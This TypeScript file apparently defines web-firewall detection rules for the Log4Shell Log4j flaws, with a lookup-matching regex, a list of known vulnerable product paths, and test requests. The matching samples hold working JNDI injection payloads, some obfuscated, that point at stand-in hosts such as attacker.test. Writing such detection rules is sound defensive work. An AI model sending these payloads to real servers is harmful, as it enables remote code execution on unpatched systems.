import { get, jsonPost } from '../../../request-samples.ts';
import { allOf, anyOf, bodyMatches, decodedQueryMatches, pathHas } from '../conditions.ts';
import { anyStrength, attack, detection } from '../targeted-rule.ts';

/** A lookup by its name, or a name that is put together from other lookups. */
const LOOKUP =
  '\\$\\{[^{}]{0,40}jndi|\\$\\{[^{}]{0,20}\\$\\{[^{}]{0,40}(?::-|lower:|upper:|env:|sys:|date:|base64:)';

export const log4jRules = [
  attack({
    ref: 'managed-log4j-lookup',
    description:
      'Log4j: loads a class of another host with a lookup in any logged value (Log4Shell, CVE-2021-44228, CVE-2021-45046, CVE-2021-45105)',
    categories: [
      'log4j',
      'remote-code-execution',
      'dos',
      'cve-2021-44228',
      'cve-2021-45046',
      'cve-2021-45105',
    ],
    finds: { families: ['java', 'template'], strengths: anyStrength },
    expression: anyOf(
      `any(lower(url_decode(http.request.headers.values[*], "ru")[*])[*] matches r"${LOOKUP}")`,
      `lower(url_decode(http.request.uri, "ru")) matches r"${LOOKUP}"`,
      bodyMatches(LOOKUP),
    ),
    matching: [
      get('/', { 'user-agent': '${jndi:ldap://192.0.2.1:1389/a}' }),
      get('/?q=%24%7Bjndi%3Armi%3A%2F%2Fattacker.test%2Fx%7D'),
      get('/', { 'x-api-version': '${${lower:j}ndi:${lower:l}dap://attacker.test/x}' }),
      jsonPost('/login', { user: '${${::-j}${::-n}${::-d}${::-i}:dns://attacker.test}' }),
    ],
    other: [
      get('/?q=what+is+jndi'),
      jsonPost('/templates', { text: 'Hello ${name}, your order ${order.id} is ready' }),
    ],
  }),
  detection({
    ref: 'managed-log4j-known-entry-points',
    description:
      'VMware Horizon, vCenter, UniFi, Solr, MobileIron: a lookup in a value that these products log (CVE-2021-44228)',
    categories: [
      'log4j',
      'vmware',
      'ubiquiti',
      'apache-solr',
      'remote-code-execution',
      'cve-2021-44228',
    ],
    expression: allOf(
      pathHas(
        '/portal/info.jsp',
        '/broker/xml',
        '/websso/saml2/',
        '/api/login',
        '/solr/admin/',
        '/mifs/j_spring_security_check',
        '/struts2-showcase/',
        '/druid/',
      ),
      anyOf(
        `any(lower(http.request.headers.values[*])[*] matches r"${LOOKUP}")`,
        bodyMatches(LOOKUP),
        decodedQueryMatches(LOOKUP),
      ),
    ),
    matching: [
      get('/portal/info.jsp', { 'accept-language': '${jndi:ldap://attacker.test/a}' }),
      jsonPost('/api/login', {
        username: 'a',
        password: 'a',
        remember: '${jndi:ldap://attacker.test/o=tomcat}',
        strict: true,
      }),
      get('/solr/admin/cores?action=$%7Bjndi:ldap://attacker.test%7D'),
    ],
    other: [
      get('/portal/info.jsp', { 'accept-language': 'en' }),
      jsonPost('/api/login', { username: 'ada', password: 'x' }),
    ],
  }),
];
